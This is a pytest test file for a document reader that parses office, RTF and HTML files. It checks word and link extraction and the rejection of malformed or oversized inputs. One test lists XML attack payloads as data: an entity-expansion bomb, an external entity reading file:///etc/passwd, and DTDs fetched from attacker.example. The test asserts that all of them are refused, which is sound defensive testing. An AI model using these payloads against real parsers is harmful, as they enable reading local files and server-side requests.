"""Documents that people write: their words, where they lead, and what is hostile in them refused within bounds."""

from __future__ import annotations

import io
import time
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sceau.engine.checks.written import kind_of_writing
from sceau.outside.strangers import limits
from sceau.outside.strangers.office import read_office
from sceau.outside.strangers.pages import read_page
from sceau.outside.strangers.reader import StrangersReader
from sceau.outside.strangers.rich import read_rich_text
from strangers_files import picture
from written_files import docx, ods, odt, page, pptx, rtf, xlsx, zipped

LINK = "https://badges.example/v/7F3AK91C2QXM4B?lang=fr&o=secret"
LINES = ["Naïma Bensaïd", "Ingénieure à Łódź"]


@pytest.fixture(scope="module")
def opener():
    kept = StrangersReader(at_once=1, seconds=10)
    yield kept
    kept.close()


def links(contents) -> list[str]:
    return [each.content.decode() for each in contents.carried if each.how == "link"]


def words(contents) -> list[str]:
    return [line.strip() for line in contents.words.splitlines() if line.strip()]


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (docx(LINES, LINK), "office"),
        (odt(LINES, LINK), "office"),
        (odt(LINES, LINK, kind="presentation"), "office"),
        (pptx(LINES, LINK), "office"),
        (rtf(LINES, LINK), "rtf"),
        (page(LINES, LINK), "page"),
    ],
)
def test_the_words_and_the_links_of_a_document(opener, content, kind):
    contents = opener.read(content)

    assert (contents.kind, contents.fault) == (kind, "")
    assert words(contents)[:2] == LINES
    assert links(contents) == [LINK]
    assert "Effacé" not in contents.words
    assert "Autre" not in contents.words


def test_what_stands_in_the_head_of_a_text_a_field_and_a_picture(opener):
    square = picture(LINK)
    parts = {"word/media/image1.png": square, "Pictures/1.png": square}
    contents = opener.read(docx(LINES, head="Jean Dupont", field=LINK, parts=parts))

    assert words(contents)[0] == "Jean Dupont"
    assert links(contents) == [LINK]
    assert [each.content.decode() for each in contents.carried if each.how == "code"] == [LINK]
    assert [each.how for each in opener.read(odt(LINES, parts={"Pictures/1.png": square})).carried] == ["code"]


def test_the_cells_of_a_table_and_where_they_lead(opener):
    rows = [["Nom complet", "Preuve"], ["Naïma Bensaïd", "ouvrir"]]
    of_excel = opener.read(xlsx(rows, {"B2": LINK}))
    of_libre = opener.read(ods(rows, {(1, 1): LINK}))

    for contents in (of_excel, of_libre):
        assert contents.fault == ""
        assert contents.sheets[0].rows == ((1, ("Nom complet", "Preuve")), (2, ("Naïma Bensaïd", "ouvrir", LINK)))
    assert opener.read(xlsx(rows, hidden=True)).sheets == ()


def test_two_cells_far_apart_cost_two_cells():
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    far = f'<worksheet xmlns="{main}"><row r="1048576"><c r="XFD1048576"><v>1</v></c><c r="B1048576"><v>2</v></c></row></worksheet>'
    parts = {name: content for name, content in _parts(xlsx([["x"]])).items() if "sheet1.xml" not in name}
    contents = read_office(zipped(parts | {"xl/worksheets/sheet1.xml": far}))

    assert contents.sheets[0].rows == ((1048576, ("", "2")),)
    assert contents.fault == "too_many"


@pytest.mark.parametrize(
    ("content", "fault"),
    [
        (docx(LINES).replace(b"PK\x01\x02", b"PK\x01\x03"), "broken"),
        (docx(LINES)[:200], "broken"),
        (zipped({"[Content_Types].xml": "", "other/x.xml": "<x/>"}), "not_office"),
        (odt(LINES, parts={"META-INF/manifest.xml": b"<m:encryption-data/>"}), "locked"),
    ],
)
def test_what_cannot_be_read_is_told(content, fault):
    assert read_office(content).fault == fault


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x SYSTEM "https://attacker.example/x.dtd">',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://attacker.example/x.dtd"> %p;]>',
    ],
)
def test_no_entity_is_made_and_nothing_is_fetched(declared):
    body = f'{declared}<w:document xmlns:w="w"><w:p><w:t>Jean &a;</w:t></w:p></w:document>'
    contents = read_office(zipped({"[Content_Types].xml": "", "word/document.xml": body}))

    assert (contents.fault, contents.words) == ("broken", "")


def test_a_document_that_unfolds_without_measure_is_read_no_further():
    huge = b"<w:document xmlns:w='w'>" + b"<w:p><w:t>Jean Dupont</w:t></w:p>" * 2_200_000 + b"</w:document>"
    content = zipped({"[Content_Types].xml": "", "word/document.xml": huge})
    del huge
    started = time.process_time()
    contents = read_office(content)

    assert len(content) < limits.MEGABYTE
    assert contents.fault == "too_many"
    assert time.process_time() - started < 4


def test_a_list_of_parts_without_end_is_not_read():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "")
        for number in range(limits.MOST_PARTS + 1):
            archive.writestr(f"word/{number}", "")

    assert read_office(out.getvalue()).fault == "too_many"


def test_links_that_a_table_repeats_without_end_are_kept_within_bounds(opener):
    links = {f"A{row}": f"https://badges.example/{row}/{'x' * 3_900}" for row in range(1, 2_500)}
    by_excel = opener.read(xlsx([["x"]], links))
    by_libre = opener.read(
        ods(
            [["x"] * 60] * 60,
            {(line, at): f"https://a.example/{at}{'x' * 3_900}" for line in range(60) for at in range(60)},
        )
    )

    for contents in (by_excel, by_libre):
        assert contents.fault == "too_many"
        assert sum(len(cell) for sheet in contents.sheets for _, row in sheet.rows for cell in row) <= 8_000_000


def test_an_answer_without_end_is_not_waited_for(monkeypatch):
    monkeypatch.setattr(limits, "LONGEST_ANSWER", 100)
    kept = StrangersReader(at_once=1, seconds=10)

    assert kept.read(docx(LINES * 20)).fault == "ended"
    kept.close()


def test_a_text_of_any_length_is_read_at_its_beginning():
    for contents in (
        read_office(docx(["mot " * 100_000])),
        read_page(page(["mot " * 100_000])),
        read_rich_text(rtf(["mot " * 100_000])),
    ):
        assert contents.fault == "too_many"
        assert len(contents.words) <= limits.LONGEST_TEXT


@pytest.mark.parametrize(
    "content",
    [
        b"{\\rtf1" + b"{" * 100_000,
        b"{\\rtf1 \\bin99999999 x}",
        b"{\\rtf1 \\u-1 ?\\u55357 ?\\uc9\\'zz}",
        b"{\\rtf1 \\",
    ],
)
def test_formatted_text_that_is_none(content):
    assert read_rich_text(content).kind == "rtf"


def test_a_page_shows_pictures_of_its_own_only():
    import base64

    inside = f'<p>x<img src="data:image/png;base64,{base64.b64encode(picture(LINK)).decode()}"><img src="https://elsewhere.example/x.png">'
    contents = read_page(b"<!doctype html>" + inside.encode())

    assert [each.content.decode() for each in contents.carried] == [LINK]


@given(st.binary(max_size=400))
@settings(max_examples=150)
def test_nothing_in_a_file_raises(noise):
    assert read_office(b"PK\x03\x04" + noise).kind == "office"
    assert read_rich_text(b"{\\rtf1" + noise).kind == "rtf"
    assert read_page(b"<html>" + noise).kind == "page"
    whole = docx(LINES, LINK)
    place = len(noise) * 3 % len(whole)
    assert read_office(whole[:place] + noise + whole[place + len(noise) :]).kind == "office"


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (b"\xef\xbb\xbf<!DOCTYPE html><html>", "page"),
        (b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'>", "page"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><p>", ""),
        (b"<?xml version='1.0'?><svg:svg><html>", ""),
        (b'{"@context": []}', ""),
        (zipped({"cv.docx": b""}), ""),
        (zipped({"word/document.xml": b""}), "office"),
    ],
)
def test_what_a_file_is_by_how_it_begins(content, kind):
    assert kind_of_writing(content) == kind


def _parts(content: bytes) -> dict[str, str | bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}
